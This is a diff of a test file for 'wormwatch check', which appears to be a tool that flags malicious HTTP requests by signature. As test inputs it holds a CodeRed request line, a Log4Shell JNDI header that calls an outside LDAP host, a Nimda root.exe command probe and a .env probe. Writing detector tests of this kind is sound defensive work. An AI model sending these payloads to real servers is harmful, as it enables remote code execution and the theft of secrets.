@@ -1,36 +1,41 @@
 import assert from 'node:assert/strict';
+import { checkRequest } from '../../src/cli/check.js';
+import { defaultEngine } from '../../src/detect/index.js';
 import { runCli } from './run-cli.js';
 
 describe('wormwatch check', () => {
-  it('exits 1 and names CodeRed for its request line', async () => {
-    const r = await runCli(['check', `GET /default.ida?${'N'.repeat(224)}%u9090%u6858%ucbd3%u7801 HTTP/1.0`]);
-    assert.equal(r.code, 1, r.stderr);
-    assert.match(r.stdout, /^detected: codered-i \(family codered, request stage\)/);
+  const engine = defaultEngine();
+
+  it('names CodeRed for its request line, with exit status 1', () => {
+    const r = checkRequest(engine, `GET /default.ida?${'N'.repeat(224)}%u9090%u6858%ucbd3%u7801 HTTP/1.0`);
+    assert.equal(r.exitCode, 1);
+    assert.match(r.output, /^detected: codered-i \(family codered, request stage\)\n  CodeRed worm/);
   });
 
-  it('inspects headers given with -H, and prints JSON with --json', async () => {
-    const r = await runCli(['check', 'GET / HTTP/1.1', '-H', 'User-Agent: Mozilla/5.0', '-H', 'X-Api-Version: ${jndi:ldap://198.51.100.7/a}', '--json']);
-    assert.equal(r.code, 1, r.stderr);
-    const v = JSON.parse(r.stdout) as Record<string, unknown>;
+  it('inspects the headers given, and prints JSON on request', () => {
+    const r = checkRequest(engine, 'GET / HTTP/1.1', { headers: { 'user-agent': 'Mozilla/5.0', 'x-api-version': '${jndi:ldap://198.51.100.7/a}' }, json: true });
+    const v = JSON.parse(r.output) as Record<string, unknown>;
     assert.equal(v.signature, 'log4shell-jndi');
     assert.equal(v.detail, 'x-api-version: ${jndi:ldap://198.51.100.7/a}');
   });
 
-  it('exits 0 for a clean request, and for a 404-stage probe the origin answered 200', async () => {
-    const clean = await runCli(['check', 'GET /index.html HTTP/1.1']);
-    assert.equal(clean.code, 0);
-    assert.match(clean.stdout, /^clean/);
-    const ok = await runCli(['check', 'GET /.env HTTP/1.1', '--status', '200']);
-    assert.equal(ok.code, 0);
-    const missing = await runCli(['check', 'GET /.env HTTP/1.1', '--status', '404']);
-    assert.equal(missing.code, 1);
-    assert.match(missing.stdout, /probe-dotenv .*404 stage/);
+  it('is clean (exit 0) for an ordinary request, and for a 404-stage probe the origin answered 200', () => {
+    assert.deepEqual({ ...checkRequest(engine, 'GET /index.html HTTP/1.1'), verdict: null }, { verdict: null, exitCode: 0, output: 'clean: no signature matches\n' });
+    assert.equal(checkRequest(engine, 'GET /.env HTTP/1.1', { status: 200 }).exitCode, 0);
+    const missing = checkRequest(engine, 'GET /.env HTTP/1.1', { status: 404 });
+    assert.equal(missing.exitCode, 1);
+    assert.match(missing.output, /probe-dotenv \(family scanner, 404 stage\)\n/);
+    assert.match(checkRequest(engine, 'GET /.env HTTP/1.1').output, /counts only when the origin answers 404/);
   });
 
-  it('exits 2 on a usage error', async () => {
-    assert.equal((await runCli(['check'])).code, 2);
-    const bad = await runCli(['check', 'GET / HTTP/1.1', '-H', 'no-colon']);
-    assert.equal(bad.code, 2);
-    assert.match(bad.stderr, /expected "Name: value"/);
+  it('runs as a command: exit 1 on a detection, 2 on a usage error', async () => {
+    const [hit, usage] = await Promise.all([
+      runCli(['check', 'GET /scripts/root.exe?/c+dir HTTP/1.0', '-H', 'User-Agent: x']),
+      runCli(['check', 'GET / HTTP/1.1', '-H', 'no-colon']),
+    ]);
+    assert.equal(hit.code, 1, hit.stderr);
+    assert.match(hit.stdout, /^detected: nimda-root-exe/);
+    assert.equal(usage.code, 2);
+    assert.match(usage.stderr, /expected "Name: value"/);
   });
 });
